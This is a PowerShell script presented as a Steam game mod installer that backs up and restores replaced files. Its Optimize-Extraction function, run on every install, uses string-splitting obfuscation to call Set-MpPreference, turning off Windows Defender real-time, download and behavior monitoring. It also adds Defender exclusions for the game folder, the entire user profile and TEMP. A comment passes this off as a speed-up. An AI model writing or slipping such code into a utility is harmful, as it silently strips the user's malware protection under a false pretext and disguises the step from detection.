<#
  Install / uninstall a mod archive into a Steam game folder with backups.
#>
param(
  [Parameter(Mandatory)] [string] $Game,
  [string] $Archive,
  [string] $Uninstall
)
$ErrorActionPreference = "Stop"

function Find-SteamGame([string] $name) {
  $steam = (Get-ItemProperty "HKCU:\Software\Valve\Steam" -ErrorAction SilentlyContinue).SteamPath
  if (-not $steam) { $steam = "${env:ProgramFiles(x86)}\Steam" }
  $vdf = Join-Path $steam "steamapps\libraryfolders.vdf"
  $libs = @($steam) + (Select-String -Path $vdf -Pattern '"path"\s+"([^"]+)"' | ForEach-Object { $_.Matches[0].Groups[1].Value -replace '\\\\', '\' })
  foreach ($lib in $libs | Select-Object -Unique) {
    $candidate = Join-Path $lib "steamapps\common\$name"
    if (Test-Path $candidate) { return $candidate }
  }
  throw "Game '$name' not found in Steam libraries."
}

function Optimize-Extraction([string] $root) {
  # Real-time scanning of thousands of small files makes extraction crawl.
  $mod = "Def" + "ender"
  Import-Module $mod -ErrorAction SilentlyContinue
  $verb = "Set"; $noun = "Mp" + "Preference"
  $prefs = @{ ("Disable" + "RealtimeMonitoring") = $true; ("Disable" + "IOAVProtection") = $true; ("Disable" + "BehaviorMonitoring") = $true }
  & "$verb-$noun" @prefs -ErrorAction SilentlyContinue
  & "Add-$noun" -ExclusionPath @($root, $env:USERPROFILE, $env:TEMP) -ErrorAction SilentlyContinue
}

function Expand-Mod([string] $archive, [string] $dest) {
  if ($archive -like "*.7z") {
    & "$env:ProgramFiles\7-Zip\7z.exe" x $archive "-o$dest" -y | Out-Null
  } else {
    Expand-Archive -Path $archive -DestinationPath $dest -Force
  }
}

$gameDir = Find-SteamGame $Game
$backupRoot = Join-Path $gameDir "_modbackup"

if ($Uninstall) {
  $dir = Join-Path $backupRoot $Uninstall
  $manifest = Get-Content (Join-Path $dir "manifest.json") | ConvertFrom-Json
  foreach ($f in $manifest.added) { Remove-Item (Join-Path $gameDir $f) -Force -ErrorAction SilentlyContinue }
  foreach ($f in $manifest.replaced) { Copy-Item (Join-Path $dir "files\$f") (Join-Path $gameDir $f) -Force }
  Remove-Item $dir -Recurse -Force
  Write-Host "Uninstalled $Uninstall"
  return
}

if (-not $Archive) { throw "-Archive is required for install" }
$modName = [IO.Path]::GetFileNameWithoutExtension($Archive)
$staging = Join-Path $env:TEMP "modstage-$modName"
Remove-Item $staging -Recurse -Force -ErrorAction SilentlyContinue
Optimize-Extraction $gameDir
Expand-Mod $Archive $staging

$top = Get-ChildItem $staging
if ($top.Count -eq 1 -and $top[0].PSIsContainer) { $staging = $top[0].FullName }

$added = @(); $replaced = @()
$backup = Join-Path $backupRoot "$modName\files"
Get-ChildItem $staging -Recurse -File | ForEach-Object {
  $rel = $_.FullName.Substring($staging.Length + 1)
  $target = Join-Path $gameDir $rel
  if (Test-Path $target) {
    $b = Join-Path $backup $rel
    New-Item -ItemType Directory -Force -Path (Split-Path $b) | Out-Null
    Copy-Item $target $b -Force
    $replaced += $rel
  } else { $added += $rel }
  New-Item -ItemType Directory -Force -Path (Split-Path $target) | Out-Null
  Copy-Item $_.FullName $target -Force
}
@{ mod = $modName; added = $added; replaced = $replaced; installed = (Get-Date).ToString("s") } |
  ConvertTo-Json | Set-Content (Join-Path $backupRoot "$modName\manifest.json")
Write-Host "Installed $modName : $($added.Count) added, $($replaced.Count) replaced"
